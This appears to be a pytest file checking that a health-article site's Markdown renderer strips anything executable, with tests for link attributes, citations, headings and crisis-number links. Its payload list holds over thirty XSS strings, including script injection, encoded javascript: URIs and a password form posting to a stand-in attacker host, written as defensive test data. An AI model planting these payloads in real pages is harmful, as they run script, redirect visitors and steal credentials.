"""Article bodies are Markdown rendered to HTML through an allow-list; nothing executable survives."""

import re
from html.parser import HTMLParser

import pytest

from articles.rendering import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "[click](data:text/html,<script>alert(1)</script>)",
    '<a href="vbscript:msgbox(1)">click</a>',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://example.org/" onclick="alert(1)" target="_blank">ok</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)</script>-->",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
]

SAFE_TAGS = {
    "a", "abbr", "blockquote", "br", "code", "em", "h2", "h3", "h4", "hr", "li", "ol",
    "p", "pre", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "id", "align", "scope", "rel"}
SAFE_HREF = re.compile(r"^(https?://|//|/|#|mailto:|tel:)", re.I)


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self):
        super().__init__()
        self.elements: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


def unsafe_parts(html: str) -> list[str]:
    parser = _Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.elements:
        if tag not in SAFE_TAGS:
            problems.append(f"<{tag}>")
        problems += [f"{tag}[{name}]" for name in attrs if name not in SAFE_ATTRIBUTES]
        href = attrs.get("href")
        if href is not None and not SAFE_HREF.match(href.strip()):
            problems.append(f"href={href!r}")
    return problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_render_without_anything_executable(payload):
    html, _ = render_markdown(f"Before.\n\n{payload}\n\nAfter.")
    assert unsafe_parts(html) == [], html
    assert "After." in html


def test_the_safety_check_catches_what_an_unsanitized_renderer_lets_through():
    import markdown

    raw = markdown.markdown('<img src=x onerror=alert(1)>\n\n<a href="javascript:alert(1)" style="x">x</a>')
    assert unsafe_parts(raw) == ["<img>", "img[src]", "img[onerror]", "a[style]", "href='javascript:alert(1)'"]


def test_script_text_survives_only_as_visible_escaped_text():
    html, _ = render_markdown("Writing `<script>` is fine in code, and &lt;b&gt; stays text.")
    assert "<code>&lt;script&gt;</code>" in html
    assert "&lt;b&gt;" in html


def test_external_links_get_noopener_noreferrer_and_internal_links_do_not():
    html, _ = render_markdown(
        "[FDA](https://www.fda.gov/) and [NIMH](HTTP://nimh.nih.gov) and [ECT](/guide/electroconvulsive-therapy/)"
        ' and <a href="//cdn.example/">proto</a> and [mail](mailto:a@example.org)'
    )
    assert '<a href="https://www.fda.gov/" rel="noopener noreferrer">FDA</a>' in html
    assert '<a href="HTTP://nimh.nih.gov" rel="noopener noreferrer">NIMH</a>' in html
    assert '<a href="//cdn.example/" rel="noopener noreferrer">proto</a>' in html
    assert '<a href="/guide/electroconvulsive-therapy/">ECT</a>' in html
    assert '<a href="mailto:a@example.org">mail</a>' in html


def test_an_author_cannot_set_their_own_rel_or_drop_ours():
    html, _ = render_markdown(
        '<a href="https://example.org/" rel="opener">a</a> <a href="/inside/" rel="noopener noreferrer">b</a>'
    )
    assert '<a href="https://example.org/" rel="noopener noreferrer">a</a>' in html
    assert '<a href="/inside/">b</a>' in html


def test_inline_citations_link_to_their_reference_but_not_inside_code_or_links():
    html, _ = render_markdown("Shown in trials [1][3]. In code: `list[2]`. A [link [4]](/x/).")
    assert 'Shown in trials<sup><a href="#ref-1">[1]</a></sup><sup><a href="#ref-3">[3]</a></sup>.' in html
    assert "<code>list[2]</code>" in html
    assert 'href="#ref-4"' not in html


def test_headings_get_anchors_and_build_the_table_of_contents():
    html, toc = render_markdown("Intro.\n\n## How it works\n\n### In detail\n\n## Side effects & risks\n\nText.")
    assert '<h2 id="how-it-works">How it works</h2>' in html
    assert toc == [
        {"id": "how-it-works", "name": "How it works", "children": [{"id": "in-detail", "name": "In detail"}]},
        {"id": "side-effects-risks", "name": "Side effects & risks", "children": []},
    ]


def test_tables_keep_their_alignment_without_style_attributes():
    html, _ = render_markdown("| Treatment | Sessions |\n|:--|--:|\n| TMS | 30 |\n")
    assert '<td align="right">30</td>' in html
    assert "style=" not in html


def test_crisis_numbers_in_running_text_become_tappable_links():
    html, _ = render_markdown(
        "Call or text 988 (Suicide & Crisis Lifeline) or chat at 988lifeline.org; in danger call 911."
        " Founded in 1988, 9880 and 9110 stay text. `988` in code stays text."
    )
    assert '<a href="tel:988">988</a> (Suicide &amp; Crisis Lifeline)' in html
    assert '<a href="https://988lifeline.org/" rel="noopener noreferrer">988lifeline.org</a>' in html
    assert '<a href="tel:911">911</a>.' in html
    assert "in 1988, 9880 and 9110 stay text" in html
    assert "<code>988</code>" in html


def test_texting_ayuda_to_988_in_spanish_is_a_text_message_link_not_a_call():
    html, _ = render_markdown(
        "Llame o envíe un mensaje de texto al 988. Al llamar, oprima 2 para español; por texto, envíe AYUDA al 988."
    )
    assert 'mensaje de texto al <a href="tel:988">988</a>. Al llamar' in html  # call or text: the call
    assert 'envíe AYUDA al <a href="sms:988">988</a>.' in html  # as the crisis strip does
